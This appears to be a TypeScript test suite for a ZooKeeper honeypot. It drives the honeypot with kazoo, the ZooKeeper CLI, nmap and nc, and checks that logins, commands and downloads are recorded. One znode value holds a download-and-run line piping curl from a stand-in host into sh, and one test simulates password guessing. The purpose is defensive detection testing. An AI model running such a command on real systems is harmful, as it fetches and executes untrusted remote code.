import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import fs from 'node:fs'
import { after, before, describe, test } from 'node:test'
import type { Event } from '#events/event.ts'
import { missing, runClient, type Skep, startSkep } from '../skep.ts'

type Login = Event & { user?: { name: string }; skep: { login: { password?: string } } }
type Line = Event & { process?: { command_line?: string } }
const ofAction = (action: string) => (event: Event) =>
  event.skep.service === 'zookeeper' && event.event.action === action
const commandLine = (fits: RegExp) => (event: Event) =>
  ofAction('command')(event) && fits.test((event as Line).process?.command_line ?? '')

const kazoo = spawnSync('/usr/bin/python3', ['-c', 'import kazoo'], { stdio: 'ignore' }).status === 0
const jars =
  'zookeeper zookeeper-jute slf4j-api commons-cli commons-io netty-all netty-handler netty-transport netty-common netty-buffer netty-resolver netty-codec'
    .split(' ')
    .map(name => `/usr/share/java/${name}.jar`)
const java = missing('java') || (fs.existsSync(jars[0]!) ? false : 'needs libzookeeper-java')

describe('ZooKeeper, with real clients', () => {
  let skep: Skep
  let port: string
  before(async () => {
    skep = await startSkep({ config: 'persona: { os: debian-12 }\n' })
    port = String(skep.port('zookeeper'))
  })
  after(async () => {
    await skep?.stop()
  })
  const python = (script: string) =>
    runClient('/usr/bin/python3', ['-c', `import logging; from kazoo.client import KazooClient\n${script}`], {
      seconds: 60,
    })

  test("Python's kazoo reads, writes, watches, locks and takes its session up again", {
    skip: kazoo ? false : 'needs python3-kazoo',
  }, async () => {
    const { out, err } = await python(`
import time
from kazoo.security import make_digest_acl
def until(so):
    end = time.time() + 30
    while not so():
        assert time.time() < end
        time.sleep(0.05)
zk = KazooClient(hosts='127.0.0.1:${port}'); zk.start(timeout=20)
print(sorted(zk.get_children('/'))[:3], zk.get('/controller_epoch')[0])
seen = []
zk.DataWatch('/kazoo', lambda data, stat: seen.append(data))
until(lambda: seen == [None])
zk.create('/kazoo', b'one'); until(lambda: b'one' in seen)
zk.set('/kazoo', b'two curl http://198.51.100.7/k | sh'); until(lambda: len(seen) > 2)
print(seen)
print(zk.create('/kazoo/s-', b'', sequence=True, ephemeral=True))
with zk.Lock('/locks/a', 'me'): print(zk.get_children('/locks/a') != [])
t = zk.transaction(); t.create('/t'); t.check('/kazoo', 9); print([type(r).__name__ for r in t.commit()])
zk.add_auth('digest', 'alice:winter2024')
zk.create('/mine', b'x', acl=[make_digest_acl('alice', 'winter2024', all=True)])
session = zk.client_id
broken = []
zk.add_listener(broken.append)
zk._connection._socket.shutdown(2); until(lambda: 'CONNECTED' in broken)
print(zk.client_id == session, zk.exists('/kazoo/s-0000000000') is not None, zk.get('/mine')[0])
zk.stop()
other = KazooClient(hosts='127.0.0.1:${port}'); other.start(timeout=20)
print(other.exists('/kazoo/s-0000000000'))
try: other.get('/mine')
except Exception as e: print(type(e).__name__)
other.delete('/kazoo', recursive=True); other.stop(); other.close()`)
    assert.deepEqual(
      out.trim().split('\n'),
      [
        "['admin', 'brokers', 'cluster'] b'1'",
        "[None, b'one', b'two curl http://198.51.100.7/k | sh']",
        '/kazoo/s-0000000000',
        'True',
        "['RolledBackError', 'BadVersionError']",
        "True True b'x'",
        'None',
        'NoAuthError',
      ],
      err,
    )
    await skep.eventually(ofAction('file-download'))
    await skep.eventually(commandLine(/^multi create \/t$/))
    const [login] = (await skep.eventually(ofAction('login'))) as Login[]
    assert.deepEqual([login!.user?.name, login!.skep.login.password], ['alice', 'winter2024'])
  })

  test('every password of a guesser is in the record', { skip: kazoo ? false : 'needs python3-kazoo' }, async () => {
    const words = ['guess1', 'guess2', 'guess3']
    const { err } = await python(`
for word in ${JSON.stringify(words)}:
    zk = KazooClient(hosts='127.0.0.1:${port}', auth_data=[('digest', 'super:' + word)]); zk.start(timeout=20); zk.stop(); zk.close()`)
    const guesses = (event: Event) => ofAction('login')(event) && (event as Login).user?.name === 'super'
    const heard = ((await skep.eventually(guesses, words.length)) as Login[]).map(({ skep }) => skep.login.password)
    for (const word of words) assert.ok(heard.includes(word), `${word} ${err}`)
  })

  test("ZooKeeper's own command line", { skip: java }, async () => {
    const lines = [
      'ls /brokers',
      'create /cli text',
      'get -s /cli',
      'getAcl /cli',
      'stat /nope',
      'whoami',
      'deleteall /cli',
      'quit',
    ]
    const { out, err } = await runClient(
      'java',
      [
        '-Xmx96m',
        '-XX:TieredStopAtLevel=1',
        '-cp',
        jars.join(':'),
        'org.apache.zookeeper.ZooKeeperMain',
        '-server',
        `127.0.0.1:${port}`,
      ],
      { input: `${lines.join('\n')}\n`, seconds: 90 },
    )
    assert.match(out, /^\[ids, seqid, topics\]$/m, err)
    assert.match(`${out}${err}`, /Created \/cli/)
    assert.match(out, /^text\ncZxid = 0x[\da-f]+$/m)
    assert.match(out, /^'world,'anyone\n: cdrwa$/m)
    assert.match(`${out}${err}`, /Node does not exist: \/nope/)
    await skep.eventually(commandLine(/^create2? \/cli text$/))
    await skep.eventually(commandLine(/delete \/cli$/))
  })

  test('nmap says as little of it as of the real one', { skip: missing('nmap') }, async () => {
    const { out } = await runClient('nmap', ['-Pn', '-n', '-sV', '-p', port, '127.0.0.1'], {
      seconds: 200,
    })
    assert.match(out, /\/tcp +open +\S+/, out)
    assert.doesNotMatch(out, /honey|skep/i)
  })
})

describe('ZooKeeper 3.4, whose words are open', () => {
  let skep: Skep
  let port: string
  before(async () => {
    skep = await startSkep({ config: 'persona: { os: debian-11 }\n' })
    port = String(skep.port('zookeeper'))
  })
  after(async () => {
    await skep?.stop()
  })

  test('nmap knows it, and a scanner gets what it asks for', { skip: missing('nmap', 'nc') }, async () => {
    const { out } = await runClient('nmap', ['-Pn', '-n', '-sV', '--version-all', '-p', port, '127.0.0.1'], {
      seconds: 200,
    })
    assert.match(out, /\/tcp +open +zookeeper +Zookeeper 3\.4\.13-6--1/, out)
    const word = async (name: string) => (await runClient('nc', ['-q2', '127.0.0.1', port], { input: name })).out
    assert.equal(await word('ruok'), 'imok')
    assert.match(
      await word('envi'),
      /^Environment:\nzookeeper\.version=3\.4\.13-6--1, built on .*\n(?:.*\n)*os\.name=Linux\n/,
    )
    assert.match(await word('stat'), /\nMode: standalone\nNode count: \d+\n$/)
    assert.match(await word('wchp'), /^wchp is not executed/)
    await skep.eventually(commandLine(/^envi$/))
  })
  test('its own command line works as with any', { skip: java }, async () => {
    const { out, err } = await runClient(
      'java',
      [
        '-Xmx96m',
        '-cp',
        jars.join(':'),
        'org.apache.zookeeper.ZooKeeperMain',
        '-server',
        `127.0.0.1:${port}`,
        'ls',
        '/zookeeper',
      ],
      { seconds: 90 },
    )
    assert.match(out, /^\[quota\]$/m, err)
  })
})
